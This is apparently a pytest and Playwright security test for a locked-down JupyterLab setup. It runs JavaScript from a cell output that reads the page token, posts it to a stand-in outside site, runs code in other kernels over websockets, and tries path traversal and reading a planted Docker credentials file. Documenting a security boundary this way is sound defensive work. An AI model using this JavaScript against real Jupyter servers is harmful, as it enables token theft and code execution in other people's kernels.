"""What JavaScript in a cell's output can and cannot reach (docs/security.md).

It runs in the browser, in JupyterLab's page, outside any sandbox. Each row below is one thing that it tries
from there, and what it gets, with JupyterLab as the printed line starts it. What is refused is asked for a
second time in a JupyterLab that was started plainly, which does it: so nothing is refused for want of a
file, a right path or a well-formed request.
"""

from __future__ import annotations

import contextlib
import http.server
import json
import os
import threading
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any, NamedTuple
from urllib.parse import quote, unquote

import pytest
from playwright.sync_api import expect

from tests.e2e.browser import KERNEL, Notebook
from tests.e2e.processes import wait_until
from tests.e2e.servers import BIN, Gateway, Server, running_lab

EMPTY = {"cells": [], "metadata": {}, "nbformat": 4, "nbformat_minor": 5}
NOTEBOOK = {"type": "notebook", "content": EMPTY}
TEXT = {"type": "file", "format": "text", "content": "planted"}

#: (what it tries, JavaScript whose value is what it gets), one after the other. `call` answers with the
#: status of a request. The capitals are put in by the test.
CAN = {
    "read the page's token": ("(await everything()).includes(config.token)", True),
    "call JupyterLab's server": ("await call('GET', 'api/me')", 200),
    "read files of the scratch folder": ("await call('GET', 'api/contents/planted.ipynb')", 200),
    "write files of the scratch folder": ("await call('PUT', 'api/contents/planted.txt', TEXT)", 201),
    "move files of the scratch folder to the trash": (
        "[await call('PUT', 'api/contents/junk.txt', TEXT), await call('DELETE', 'api/contents/junk.txt')]",
        [201, 204],
    ),
    "call a notebook trusted": ("await call('POST', 'api/contents/planted.ipynb/trust')", 201),
    "change JupyterLab's settings": (
        "await call('PUT', 'lab/api/settings/@jupyterlab/apputils-extension:themes', {raw: '{}'})",
        204,
    ),
    "change JupyterLab's workspaces": (
        "await call('PUT', 'lab/api/workspaces/planted', {data: {}, metadata: {id: 'planted'}})",
        204,
    ),
    "start another kernel": ("await call('POST', 'api/kernels', {name: 'python3'})", 201),
    "run code in another notebook's kernel, in its sandbox": (
        "await run(NEIGHBOUR, `import os; print(os.path.exists(${JSON.stringify(BESIDE)}))`)",
        "False\n",
    ),
    "end another notebook's kernel": ("await call('DELETE', 'api/kernels/' + NEIGHBOUR)", 204),
    "take the kernel of another client, where it knows the id": (
        "await kernelOfSession('taken.ipynb', {id: STRANGER, name: 'python3'}) === STRANGER",
        True,
    ),
    "send what it finds to another web site": ("await send(ELSEWHERE + '/stolen')", "sent"),
}

CANNOT = {
    "read the gateway's answers": ("await call('GET', GATEWAY + '/api/kernels')", "TypeError"),
    "open a websocket to the gateway": (
        "await opens(GATEWAY.replace('http', 'ws') + '/api/kernels/' + OWN + '/channels')",
        False,
    ),
    "learn of the kernels of other clients": (
        "(await (await ask('GET', 'api/kernels')).text()).includes(STRANGER)",
        False,
    ),
    "talk to such a kernel, just by its id": ("await opens(socketOf(STRANGER))", False),
    "find the gateway's token": ("(await everything()).includes(SECRET_HALF_1 + SECRET_HALF_2)", False),
}


class Refused(NamedTuple):
    """A request, its status here, and its status in a JupyterLab that was started plainly."""

    method: str
    path: str
    body: object
    here: int
    plainly: int


def refused(secrets: Path) -> dict[str, Refused]:
    """What it tries by one request, and does not get. `secrets` is a folder in the person's home."""
    settings = f"lab/api/settings/{quote(str(secrets), safe='')}:config"
    install = {"cmd": "install", "extension_name": "no-such-package"}
    enable = {"cmd": "enable", "plugin_name": "planted:plugin"}
    return {
        "open a terminal": Refused("POST", "api/terminals", None, 403, 200),
        "list terminals": Refused("GET", "api/terminals", None, 404, 200),
        # pip looks for it, and finds nothing.
        "install a package": Refused("POST", "lab/api/extensions", install, 403, 500),
        # PyPI is asked, through a proxy that does not answer.
        "have the server search PyPI": Refused("GET", "lab/api/extensions?query=secret", None, 200, 500),
        "switch JupyterLab's plugins": Refused("POST", "lab/api/plugins", enable, 403, 201),
        # node is run, and fails.
        "build JupyterLab": Refused("POST", "lab/api/build", None, 403, 500),
        "ask whether to build JupyterLab": Refused("GET", "lab/api/build", None, 403, 200),
        "start a language server": Refused("GET", "lsp/status", None, 404, 200),
        # LaTeX is run, and makes nothing.
        "export by LaTeX": Refused("GET", "nbconvert/pdf/planted.ipynb", None, 403, 500),
        "export what it sends by LaTeX": Refused("POST", "nbconvert/pdf", NOTEBOOK, 403, 500),
        "list exports": Refused("GET", "api/nbconvert", None, 403, 200),
        "write server configuration": Refused("PUT", "api/config/planted", {"a": 1}, 403, 204),
        "read a file as a setting": Refused("GET", settings, None, 403, 200),
        "write a file as a setting": Refused("PUT", settings, {"raw": "{}"}, 403, 204),
        "read hidden files": Refused("GET", "api/contents/.hidden", None, 404, 200),
        "read hidden files as such": Refused("GET", "files/.hidden", None, 404, 200),
        "write hidden files": Refused("PUT", "api/contents/.hidden", TEXT, 400, 200),
        "make hidden files": Refused("PUT", "api/contents/.planted", TEXT, 400, 201),
    }


#: Paths that lead out of the folder, to a file that is there. No JupyterLab follows them.
BEYOND = {
    "read files beyond the folder": Refused("GET", "api/contents/..%2Fbeside.txt", None, 404, 404),
    "read files beyond the folder as such": Refused("GET", "files/..%2Fbeside.txt", None, 403, 403),
    "copy files beyond the folder": Refused("POST", "api/contents", {"copy_from": "../beside.txt"}, 404, 404),
    "write files beyond the folder": Refused("PUT", "api/contents/..%2Fbeside.txt", TEXT, 404, 404),
    "make files beyond the folder": Refused("PUT", "api/contents/..%2Fplanted.txt", TEXT, 404, 404),
    "rename files out of the folder": Refused(
        "PATCH", "api/contents/planted.txt", {"path": "../planted.txt"}, 404, 404
    ),
}

PROGRAM = """
const config = JSON.parse(document.getElementById('jupyter-config-data').textContent);
const ask = (method, path, body) => fetch(path.startsWith('http') ? path : config.baseUrl + path, {
  method,
  body: body && JSON.stringify(body),
  headers: {Authorization: 'token ' + config.token},
});
const call = async (...request) => (await ask(...request)).status;
const everything = async () => {
  const paths = ['lab', 'api/status', 'api/me', 'api/kernels', 'api/kernelspecs', 'api/sessions', 'metrics'];
  const texts = paths.map(async path => (await ask('GET', path)).text());
  return [document.documentElement.outerHTML, ...await Promise.all(texts)].join();
};
const send = async (url) => {
  await fetch(url, {method: 'POST', mode: 'no-cors', body: config.token});
  return 'sent';
};
const opens = (url) => new Promise(resolve => {
  const socket = new WebSocket(url);
  socket.onopen = () => { socket.close(); resolve(true); };
  socket.onerror = () => resolve(false);
});
const socketOf = (kernel) => {
  const origin = location.origin.replace('http', 'ws');
  return `${origin}${config.baseUrl}api/kernels/${kernel}/channels?token=${config.token}`;
};
const kernelOfSession = async (path, kernel) => {
  const answer = await ask('POST', 'api/sessions', {path, name: '', type: 'notebook', kernel});
  return (await answer.json()).kernel?.id;
};
const run = (kernel, code) => new Promise((resolve, reject) => {
  const socket = new WebSocket(socketOf(kernel));
  socket.onerror = reject;
  socket.onopen = () => socket.send(JSON.stringify({
    channel: 'shell',
    header: {msg_id: 'm', msg_type: 'execute_request', session: 's', username: '', version: '5.3'},
    parent_header: {},
    metadata: {},
    content: {code, silent: false},
  }));
  socket.onmessage = ({data}) => {
    const message = JSON.parse(data);
    if (message.header.msg_type === 'stream') { socket.close(); resolve(message.content.text); }
  };
});
const got = {};
for (const [name, attempt] of ATTEMPTS) {
  try { got[name] = await attempt(); } catch (error) { got[name] = error.name; }
}
const result = document.createElement('pre');
result.className = 'reached';
result.textContent = JSON.stringify(got);
element.append(result);
"""


class Elsewhere(http.server.BaseHTTPRequestHandler):
    """A web site of somebody else's that keeps what it is sent."""

    received: list[str]

    def do_POST(self) -> None:
        self.received.append(self.rfile.read(int(self.headers["Content-Length"])).decode())
        self.send_response(204)
        self.end_headers()

    def log_message(self, *_: object) -> None:
        pass


@pytest.fixture
def elsewhere() -> Iterator[tuple[str, list[str]]]:
    """The address of such a site, and what it has received."""
    handler = type("Site", (Elsewhere,), {"received": []})
    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), handler)
    thread = threading.Thread(target=server.serve_forever)
    thread.start()
    yield f"http://127.0.0.1:{server.server_port}", handler.received  # type: ignore[attr-defined]
    server.shutdown()
    thread.join()
    server.server_close()


def prepare(lab: Server) -> Path:
    """Put there what a page must not reach, and a notebook; the folder in the home that holds a secret."""
    (lab.folder / ".hidden").write_text("hidden")
    (lab.folder.parent / "beside.txt").write_text("beside")
    secrets = lab.program.log.parent / ".docker"
    secrets.mkdir(exist_ok=True)
    (secrets / "config.json").write_text('{"auths": "secret"}')
    assert lab.call("PUT", "/api/contents/planted.ipynb", {**NOTEBOOK, "format": "json"})[0] in (200, 201)
    return secrets


def home(lab: Server) -> dict[str, bytes]:
    """What is in the home of JupyterLab's user, but the server's own log, temporary and runtime files."""
    folder = lab.program.log.parent
    own = ("lab.log", "tmp/", "runtime/", "data/notebook_secret")
    files = {str(path.relative_to(folder)): path for path in folder.rglob("*") if path.is_file()}
    return {name: path.read_bytes() for name, path in files.items() if not name.startswith(own)}


def test_javascript_in_an_output_reaches_what_its_table_says(
    open_notebook: Callable[..., Notebook], gateway: Gateway, lab: Server, elsewhere: tuple[str, list[str]]
) -> None:
    site, received = elsewhere
    assert lab.folder == gateway.folder / "scratch"
    requests = {**refused(prepare(lab)), **BEYOND}
    rows = {**CANNOT, **CAN} | {
        name: (f"await call({', '.join(map(json.dumps, row[:3]))})", row.here)
        for name, row in requests.items()
    }
    _, neighbour = lab.call("POST", "/api/kernels", {"name": "python3"})
    _, stranger = gateway.call("POST", "/api/kernels", {"name": "python3"})
    notebook = open_notebook("")
    half = len(gateway.token) // 2
    values = {
        "TEXT": TEXT,
        "NEIGHBOUR": neighbour["id"],
        "STRANGER": stranger["id"],
        "OWN": notebook.kernel_id(),
        "BESIDE": str(lab.folder.parent / "beside.txt"),
        "ELSEWHERE": site,
        "GATEWAY": gateway.url,
        # Whole, it would be in the page because it is in the cell.
        "SECRET_HALF_1": gateway.token[:half],
        "SECRET_HALF_2": gateway.token[half:],
    }
    attempts = ", ".join(f"[{json.dumps(name)}, async () => {code}]" for name, (code, _) in rows.items())
    program = PROGRAM.replace("ATTEMPTS", f"[{attempts}]")
    for name, value in values.items():
        program = program.replace(name, json.dumps(value))
    before, kernels = home(lab), gateway.kernel_ids()
    notebook.cell(0).locator(".cm-content").first.fill(
        f"from IPython.display import Javascript\nJavascript({_async(program)!r})"
    )
    notebook.run(0)
    result = notebook.output(0).locator("pre.reached")
    expect(result).to_be_attached(timeout=KERNEL)
    got: dict[str, Any] = json.loads(result.inner_text())
    assert got == {name: value for name, (_, value) in rows.items()}
    assert received == [lab.token]
    assert (lab.folder / "planted.txt").read_text() == "planted"
    assert (lab.folder / ".hidden").read_text() == "hidden"
    assert not (lab.folder / ".planted").exists()
    assert (lab.folder.parent / "beside.txt").read_text() == "beside"
    assert not (lab.folder.parent / "planted.txt").exists()
    trash = {f".local/share/Trash/{name}" for name in ("files/junk.txt", "info/junk.txt.trashinfo")}
    after = home(lab)
    assert set(after) - set(before) == trash
    assert {name: after[name] for name in before} == before
    (started,) = gateway.kernel_ids() - kernels
    assert kernels - gateway.kernel_ids() == {neighbour["id"]}
    for kernel in (started, stranger["id"]):
        assert lab.call("DELETE", f"/api/kernels/{kernel}")[0] == 204


def _async(program: str) -> str:
    return f"(async () => {{{program}}})()"


@contextlib.contextmanager
def plain_lab(gateway: Gateway, folder: Path) -> Iterator[tuple[Server, Path]]:
    """JupyterLab on the gateway with nothing switched off, and what the programs that it runs write to.

    node and LaTeX are replaced by ones that only say that they were run.
    """
    programs, ran, scratch = folder / "bin", folder / "ran", folder / "scratch"
    programs.mkdir()
    scratch.mkdir()
    for name in ("node", "xelatex"):
        program = programs / name
        program.write_text(f'#!/bin/sh\necho "{name} $*" >> {ran}\nexit 1\n')
        program.chmod(0o755)
    as_root = "--allow-root" if os.geteuid() == 0 else ""
    line = (
        f"PATH={programs}:$PATH JUPYTER_GATEWAY_AUTH_TOKEN={gateway.token} {BIN}/jupyter lab {as_root} "
        f"--gateway-url={gateway.url} --no-browser --ServerApp.root_dir={scratch} "
        "--ContentsManager.allow_hidden=True"
    )
    with running_lab(folder / "home", line) as server:
        yield server, ran


def test_what_is_refused_is_done_by_a_jupyterlab_that_was_started_plainly(
    gateway: Gateway, tmp_path: Path
) -> None:
    with plain_lab(gateway, tmp_path) as (server, ran):
        rows = refused(prepare(server))
        got = {name: server.status(row.method, f"/{row.path}", row.body) for name, row in rows.items()}
        assert got == {name: row.plainly for name, row in rows.items()}
        assert {line.split()[0] for line in ran.read_text().splitlines()} == {"node", "xelatex"}
        assert "node node-version-check.js\n" in ran.read_text(), (
            "the build has not come to its first program"
        )
        assert "auths" in server.call("GET", f"/{rows['read a file as a setting'].path}")[1]["schema"]
        assert {".docker/config.jupyterlab-settings", "config/serverconfig/planted.json"} <= set(home(server))
        assert (server.folder / ".hidden").read_text() == "planted"
        beside = [unquote(row.path).removeprefix("api/contents/") for row in BEYOND.values()]
        assert (server.folder / beside[0]).read_text() == "beside"


def test_it_can_shut_jupyterlab_down_and_leaves_no_password(gateway: Gateway, tmp_path: Path) -> None:
    with running_lab(tmp_path, gateway.lab_line) as server:
        before = home(server)
        password = f"/login?password={server.token}&new_password=planted"
        server.status("POST", password)
        assert "Wrote hashed password" in server.program.output()
        assert server.call("POST", "/api/shutdown")[0] == 200
        wait_until(lambda: not server.answers("/api/status"), "JupyterLab is gone")
        assert home(server) == before
